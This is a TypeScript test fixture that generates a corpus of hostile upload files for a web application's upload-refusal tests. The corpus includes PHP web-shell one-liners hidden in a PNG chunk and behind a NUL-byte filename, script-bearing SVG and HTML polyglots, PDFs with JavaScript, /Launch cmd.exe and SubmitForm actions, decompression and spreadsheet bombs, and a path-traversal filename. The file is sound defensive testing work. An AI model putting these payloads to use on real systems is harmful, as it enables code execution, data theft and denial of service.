import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { manyScansJpeg, noiseJpeg } from './images.ts';
import { pdfWithHiddenScript } from './pdf.ts';
import { ENCODINGS, goToRSharePdf, pdfWithCatalogInObjectStream, uriOnOpenPdf } from './pdf-attacks.ts';
import { IMPOR_COLUMNS } from '#contract/impor.ts';
import { part, xlsxWith, zipParts } from '../modules/impor/impor.fixtures.ts';

// A corpus of bad upload files, made in code (no binaries in the repository): polyglots, markup
// dressed as images, PDFs that run something, truncated and oversized images, decompression bombs,
// archives renamed, other image formats, executables, hostile file names, empty files, a
// spreadsheet bomb and PKCS#12 garbage. server/test/upload-corpus.test.ts sends each file to every
// upload endpoint and expects a refusal.

export interface BadFile {
  /** What the file is, for the report. */
  name: string;
  filename: string;
  /** The Content-Type the client declares (the server must not believe it). */
  type: string;
  bytes: Buffer;
  /**
   * Endpoints that may accept the file because its content is fine for them (the name and the
   * declared type never decide): still nothing may be written to the file store.
   */
  acceptedBy?: { endpoints: string[]; why: string };
}

// ---------------------------------------------------------------------------------------------
// Building blocks

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A 1-bit greyscale PNG of `width` × `height` zero pixels: tiny on disk, `width × height` pixels
 * when decoded (20000 × 20000 = 400 megapixels from about 50 KB).
 */
export function zeroPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Math.ceil(width / 8) + 1; // filter byte + pixels
  const raw = Buffer.alloc(row * height); // all zero: filter 0, black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A "JPEG" of FF D8 FF '<' and then `a` up to the 5 MB limit. The old markup scan
 * backtracked over the run for 5.6 s, holding the event loop.
 */
export function markupStallJpeg(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<'), Buffer.alloc(5 * 1024 * 1024 - 64, 'a')]);
}

/** A 10 MB PDF of ~390,000 tiny objects (6.6 s of CPU in the old PDF check). */
export function manyObjectsPdf(): Buffer {
  const parts: string[] = ['%PDF-1.4\n'];
  let size = parts[0]!.length;
  for (let i = 1; size < 10 * 1024 * 1024 - 200; i++) {
    const o = `${i} 0 obj<<>>endobj\n`;
    parts.push(o);
    size += o.length;
  }
  parts.push('trailer<<>>\n%%EOF\n');
  return Buffer.from(parts.join(''), 'latin1');
}

/** A PNG with one extra text chunk (tEXt) holding `text`. */
async function pngWithText(text: string): Promise<Buffer> {
  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#88aa44' } })
    .png()
    .toBuffer();
  const iend = png.length - 12;
  return Buffer.concat([
    png.subarray(0, iend),
    pngChunk('tEXt', Buffer.from(`Comment\u0000${text}`, 'latin1')),
    png.subarray(iend),
  ]);
}

/** A PNG whose first IDAT chunk holds garbage (with a correct checksum): it cannot be decoded. */
function corruptIdat(png: Buffer): Buffer {
  const out = Buffer.from(png);
  const at = out.indexOf('IDAT', 8, 'latin1');
  const length = out.readUInt32BE(at - 4);
  for (let i = 0; i < length; i++) out[at + 4 + i] = (i * 131 + 7) & 0xff;
  out.writeUInt32BE(crc32(out.subarray(at, at + 4 + length)) >>> 0, at + 4 + length);
  return out;
}

/** A JPEG whose SOF marker claims `width` × `height` (the pixel data is for a small image). */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#cc3333' } })
      .jpeg()
      .toBuffer(),
  );
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1]! >= 0xc0 && jpeg[i + 1]! <= 0xc2) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF marker');
}

/** A JPEG with a comment (COM) segment holding `text`. */
async function jpegWithComment(text: string): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#3366cc' } })
    .jpeg()
    .toBuffer();
  const body = Buffer.from(text, 'latin1');
  const seg = Buffer.alloc(4);
  seg[0] = 0xff;
  seg[1] = 0xfe;
  seg.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, body, jpeg.subarray(2)]);
}

/** A zip archive (deflate), written by hand (impor.fixtures.ts). */
const zip = (entries: { name: string; data: Buffer }[]): Buffer => zipParts(entries.map((e) => part(e.name, e.data)));

/**
 * A minimal .xlsx whose first sheet has the import template's header and then `rows` rows of
 * `cols` text cells: the rows differ only in their number, so the sheet compresses to a few bytes
 * a row (100 000 rows of 26 cells: about 90 MB of XML in well under 1 MB).
 */
export function xlsxWithRows(rows: number, cols: number): Buffer {
  const col = (i: number) =>
    (i >= 26 ? String.fromCharCode(64 + Math.floor(i / 26)) : '') + String.fromCharCode(65 + (i % 26));
  const cell = (i: number, r: number, t: string) =>
    `<c r="${col(i)}${r}" t="inlineStr"><is><t>${t.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c>`;
  const parts: string[] = [
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
  ];
  parts.push(`<row r="1">${IMPOR_COLUMNS.map((c, i) => cell(i, 1, c.header)).join('')}</row>`);
  for (let r = 2; r <= rows + 1; r++)
    parts.push(`<row r="${r}">${Array.from({ length: cols }, (_, i) => cell(i, r, 'x')).join('')}</row>`);
  parts.push('</sheetData></worksheet>');
  return xlsxWith(part('xl/worksheets/sheet1.xml', parts.join('')));
}

async function onePagePdf(edit?: (doc: PDFDocument) => void | Promise<void>, objectStreams = false): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('SK uji', { x: 20, y: 150, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) });
  await edit?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** 2 × 2 24-bit BMP. */
function bmp(): Buffer {
  const b = Buffer.alloc(54 + 16);
  b.write('BM', 0, 'latin1');
  b.writeUInt32LE(b.length, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(2, 18);
  b.writeInt32LE(2, 22);
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  b.writeUInt32LE(16, 34);
  return b;
}

/** An .ico holding one PNG image. */
function ico(png: Buffer): Buffer {
  const head = Buffer.alloc(22);
  head.writeUInt16LE(0, 0);
  head.writeUInt16LE(1, 2);
  head.writeUInt16LE(1, 4);
  head[6] = 32;
  head[7] = 32;
  head.writeUInt16LE(1, 10);
  head.writeUInt16LE(32, 12);
  head.writeUInt32LE(png.length, 14);
  head.writeUInt32LE(22, 18);
  return Buffer.concat([head, png]);
}

const HTML = '<!DOCTYPE html><html><body><script>fetch("/api/me").then(r=>r.text()).then(alert)</script></body></html>';
const SVG_SCRIPT =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';

// ---------------------------------------------------------------------------------------------

/** The corpus: at least 30 files, each of them refused by every upload endpoint. */
export async function badFiles(): Promise<BadFile[]> {
  const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#3366cc' } })
    .jpeg({ quality: 90 })
    .toBuffer();
  const noisy = sharp(
    Buffer.alloc(300 * 200 * 3, 0).map((_, i) => (i * 2654435761) >>> 24),
    { raw: { width: 300, height: 200, channels: 3 } },
  );
  const webp = await noisy.clone().webp({ quality: 90 }).toBuffer();
  const noisyJpeg = await noisy.clone().jpeg({ quality: 95 }).toBuffer();
  const noisyPng = await noisy.clone().png().toBuffer();
  const pdf = await onePagePdf();
  const template = await (await import('../modules/impor/impor.service.ts')).templateXlsx();
  const half = (b: Buffer) => b.subarray(0, Math.floor(b.length / 2));

  const files: BadFile[] = [
    // Markup dressed as images, and images carrying markup.
    {
      name: 'polyglot JPEG/HTML (HTML after the end of the image)',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([jpeg, Buffer.from(HTML)]),
    },
    {
      name: 'JPEG with a <script> in its comment segment',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: await jpegWithComment(`<script>alert(1)</script>`),
    },
    {
      name: 'PNG with PHP in a text chunk',
      filename: 'foto.png',
      type: 'image/png',
      bytes: await pngWithText('<?php system($_GET["c"]); ?>'),
    },
    { name: 'SVG with script', filename: 'logo.svg', type: 'image/svg+xml', bytes: Buffer.from(SVG_SCRIPT) },
    { name: 'SVG with script, named .jpg', filename: 'logo.jpg', type: 'image/jpeg', bytes: Buffer.from(SVG_SCRIPT) },
    { name: 'HTML named .jpg', filename: 'foto.jpg', type: 'image/jpeg', bytes: Buffer.from(HTML) },
    // Truncated images.
    { name: 'truncated JPEG (first half)', filename: 'foto.jpg', type: 'image/jpeg', bytes: half(noisyJpeg) },
    { name: 'truncated PNG (first half)', filename: 'foto.png', type: 'image/png', bytes: half(noisyPng) },
    { name: 'truncated WebP (first half)', filename: 'foto.webp', type: 'image/webp', bytes: half(webp) },
    {
      name: 'PNG with corrupt compressed image data',
      filename: 'foto.png',
      type: 'image/png',
      bytes: corruptIdat(noisyPng),
    },
    { name: 'JPEG header only', filename: 'foto.jpg', type: 'image/jpeg', bytes: jpeg.subarray(0, 200) },
    // Too large: bytes, pixels, and a decompression bomb.
    { name: 'JPEG over 5 MB', filename: 'besar.jpg', type: 'image/jpeg', bytes: await noiseJpeg(5.3 * 1024 * 1024) },
    {
      name: 'JPEG claiming 65000 × 65000 pixels (tiny file)',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: await jpegClaiming(65000, 65000),
    },
    {
      name: 'PNG of 8000 × 6000 pixels, 48 MP (small file)',
      filename: 'foto.png',
      type: 'image/png',
      bytes: zeroPng(8000, 6000),
    },
    {
      name: 'decompression bomb: PNG 20000 × 20000 of zeros',
      filename: 'bom.png',
      type: 'image/png',
      bytes: zeroPng(20000, 20000),
    },
    { name: 'JPEG claiming 0 × 0 pixels', filename: 'foto.jpg', type: 'image/jpeg', bytes: await jpegClaiming(0, 0) },
    // Other image formats.
    {
      name: 'GIF',
      filename: 'foto.gif',
      type: 'image/gif',
      bytes: await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0000' } })
        .gif()
        .toBuffer(),
    },
    { name: 'BMP named .jpg', filename: 'foto.jpg', type: 'image/jpeg', bytes: bmp() },
    {
      name: 'TIFF',
      filename: 'foto.tif',
      type: 'image/tiff',
      bytes: await sharp({ create: { width: 16, height: 16, channels: 3, background: '#00ff00' } })
        .tiff()
        .toBuffer(),
    },
    {
      name: 'ICO',
      filename: 'favicon.ico',
      type: 'image/x-icon',
      bytes: ico(
        await sharp({ create: { width: 32, height: 32, channels: 4, background: '#0000ff' } })
          .png()
          .toBuffer(),
      ),
    },
    // Executables.
    {
      name: 'Windows EXE (MZ) named .jpg',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([
        Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
        Buffer.alloc(120),
        Buffer.from('This program cannot be run in DOS mode.'),
      ]),
    },
    {
      name: 'ELF executable named .pdf',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]),
    },
    // PDFs that run something.
    {
      name: 'PDF with /JavaScript in /Names',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        const js = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
        doc.catalog.set(
          PDFName.of('Names'),
          doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('a'), doc.context.register(js)] }) }),
        );
      }),
    },
    {
      name: 'PDF with /OpenAction JavaScript inside an object stream',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        doc.catalog.set(
          PDFName.of('OpenAction'),
          doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
        );
      }, true),
    },
    {
      name: 'PDF with /OpenAction JavaScript in an object stream behind a later harmless copy of the catalog',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await pdfWithHiddenScript(),
    },
    {
      name: 'PDF with /OpenAction /Launch (cmd.exe)',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        doc.catalog.set(
          PDFName.of('OpenAction'),
          doc.context.obj({
            S: 'Launch',
            F: PDFString.of('cmd.exe'),
            Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') },
          }),
        );
      }, true),
    },
    {
      name: 'PDF with a page /AA action nested in an object stream (/SubmitForm)',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        doc
          .getPage(0)
          .node.set(
            PDFName.of('AA'),
            doc.context.obj({ O: { S: 'SubmitForm', F: PDFString.of('https://contoh.invalid/ambil') } }),
          );
      }, true),
    },
    {
      name: 'PDF with a link annotation that launches a program, written inside the page in an object stream',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        doc.getPage(0).node.set(
          PDFName.of('Annots'),
          doc.context.obj([
            {
              Type: 'Annot',
              Subtype: 'Link',
              Rect: [0, 0, 300, 200],
              A: { S: 'Launch', F: PDFString.of('calc.exe') },
            },
          ]),
        );
      }, true),
    },
    {
      name: 'PDF with names written as #xx escapes (/J#61vaScript)',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: Buffer.from(
        (
          await onePagePdf((doc) => {
            doc.catalog.set(
              PDFName.of('OpenAction'),
              doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
            );
          })
        )
          .toString('latin1')
          .replace('/JavaScript', '/J#61vaScript')
          .replace('/JS ', '/#4AS '),
        'latin1',
      ),
    },
    {
      name: 'PDF with an embedded file',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf(async (doc) => {
        await doc.attach(Buffer.from('MZ bukan dokumen'), 'lampiran.exe', { mimeType: 'application/octet-stream' });
      }),
    },
    {
      name: 'PDF with an XFA form',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: await onePagePdf((doc) => {
        doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp/>') }));
      }, true),
    },
    // The catalog in an object stream the old check could not decode, a harmless copy after it
    // (pdf.js runs the script); actions that open a share or a web address by themselves.
    {
      name: 'PDF with the catalog (a script OpenAction) in an object stream behind /Filter /Fl',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: pdfWithCatalogInObjectStream(ENCODINGS['abbreviated /Fl']!),
    },
    {
      name: 'PDF with the catalog (a script OpenAction) in an object stream behind FlateDecode /Predictor 12',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: pdfWithCatalogInObjectStream(ENCODINGS['FlateDecode with /Predictor 12']!),
    },
    {
      name: 'PDF with /OpenAction GoToR to \\\\host\\share',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: goToRSharePdf(),
    },
    { name: 'PDF with /OpenAction /S /URI', filename: 'sk.pdf', type: 'application/pdf', bytes: uriOnOpenPdf() },
    // Files that took seconds of CPU to check, or a minute to decode.
    {
      name: 'progressive JPEG of 6000 × 6000 pixels with 883 scans (126 KB)',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: manyScansJpeg(),
    },
    {
      name: 'JPEG header, "<" and 5 MB of "a" (slow markup scan)',
      filename: 'foto.jpg',
      type: 'image/jpeg',
      bytes: markupStallJpeg(),
    },
    {
      name: 'PDF of 10 MB with ~390,000 tiny objects (slow PDF parse)',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: manyObjectsPdf(),
    },
    // Broken and fake PDFs.
    { name: 'truncated PDF (first half)', filename: 'sk.pdf', type: 'application/pdf', bytes: half(pdf) },
    {
      name: 'PDF declared, only a header',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: Buffer.from('%PDF-1.7\n%%EOF\n'),
    },
    {
      name: 'PDF without pages',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false })),
    },
    {
      name: 'PDF header on HTML',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: Buffer.from(`%PDF-1.4\n${HTML}${' '.repeat(64)}\n%%EOF\n`),
    },
    {
      name: 'PDF over 10 MB',
      filename: 'besar.pdf',
      type: 'application/pdf',
      bytes: Buffer.concat([
        pdf.subarray(0, pdf.length - 6),
        Buffer.alloc(10.5 * 1024 * 1024, 0x20),
        Buffer.from('\n%%EOF\n'),
      ]),
    },
    // Archives renamed.
    {
      name: 'zip renamed .pdf',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: zip([{ name: 'sk.pdf', data: pdf }]),
    },
    {
      name: 'xlsx renamed .pdf',
      filename: 'sk.pdf',
      type: 'application/pdf',
      bytes: template,
      acceptedBy: {
        endpoints: ['teacher import preview', 'teacher import'],
        why: 'a real spreadsheet (the import template): the import reads it whatever its name',
      },
    },
    {
      name: 'zip renamed .xlsx (no workbook inside)',
      filename: 'guru.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: zip([{ name: 'readme.txt', data: Buffer.from('bukan excel') }]),
    },
    {
      name: 'CSV named .xlsx',
      filename: 'guru.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: Buffer.from('nip;nama\n198504122010011001;Uji\n'),
    },
    {
      name: 'xlsx bomb: 8000 rows × 26 cells (over the 5000-row limit) in a 0.6 MB zip',
      filename: 'guru.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: xlsxWithRows(8000, 26),
    },
    // Hostile names (the content is bad too: names alone never decide, see the test).
    {
      name: 'path traversal in the name: ../../etc/passwd.jpg',
      filename: '../../etc/passwd.jpg',
      type: 'image/jpeg',
      bytes: Buffer.from('root:x:0:0:root:/root:/bin/bash\n'),
    },
    {
      name: 'NUL in the name: foto.jpg\\0.php',
      filename: 'foto.jpg\u0000.php',
      type: 'image/jpeg',
      bytes: Buffer.from('<?php echo shell_exec($_GET["c"]); ?>'),
    },
    {
      name: 'very long name (4000 characters)',
      filename: `${'a'.repeat(4000)}.jpg`,
      type: 'image/jpeg',
      bytes: Buffer.from(HTML),
    },
    {
      name: 'zero bytes',
      filename: 'kosong.jpg',
      type: 'image/jpeg',
      bytes: Buffer.alloc(0),
      acceptedBy: {
        endpoints: ['gallery update', 'karya tulis update', 'riwayat KGB update'],
        why: 'an empty file input means no new file: the edit keeps the current one',
      },
    },
    // Signing keys.
    {
      name: 'PKCS#12 garbage (random bytes)',
      filename: 'kunci.p12',
      type: 'application/x-pkcs12',
      bytes: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 7919 + 13) & 0xff)),
    },
    {
      name: 'PEM certificate named .p12',
      filename: 'kunci.p12',
      type: 'application/x-pkcs12',
      bytes: Buffer.from('-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUbukan\n-----END CERTIFICATE-----\n'),
    },
  ];
  return files;
}
